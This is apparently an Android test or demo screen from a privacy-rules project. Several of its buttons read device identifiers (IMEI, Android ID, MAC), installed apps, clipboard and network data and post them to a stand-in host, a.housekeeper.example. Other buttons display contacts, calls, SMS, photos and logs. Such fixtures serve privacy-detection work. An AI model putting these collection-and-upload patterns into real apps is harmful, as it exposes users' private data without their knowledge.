package cn.privlens.rules;

import org.json.JSONException;
import org.json.JSONObject;

/** Each button reads one kind of information. */
public class Home extends Screen {
    @Override
    void begin() {
        button("设备", view -> new Thread(this::sendIds).start());
        button("应用", view -> {
            final String apps = Reads.apps(this);
            new Thread(() -> Net.post("https://a.housekeeper.example/apps", apps)).start();
        });
        button("剪贴板", view -> {
            final String clip = Reads.clip(this);
            new Thread(() -> Net.post("https://a.housekeeper.example/clip", clip)).start();
        });
        button("网络", view -> {
            final String nets = Reads.nets(this);
            new Thread(() -> Net.post("https://a.housekeeper.example/nets", nets)).start();
        });
        button("任务", view -> show(Reads.tasks(this)));
        button("通讯录", view -> show(Reads.contacts(this)));
        button("通话", view -> show(Reads.calls(this)));
        button("短信", view -> show(Reads.sms(this)));
        button("照片", view -> show(Reads.photos(this)));
        button("日志", view -> show(Reads.log()));
    }

    private void sendIds() {
        try {
            JSONObject all = new JSONObject();
            all.put("imei", Reads.imei(this));
            all.put("android_id", Reads.androidId(this));
            all.put("mac", Reads.mac(this));
            Net.post("https://a.housekeeper.example/ids", all.toString());
        } catch (JSONException none) {
            throw new IllegalStateException(none);
        }
    }
}
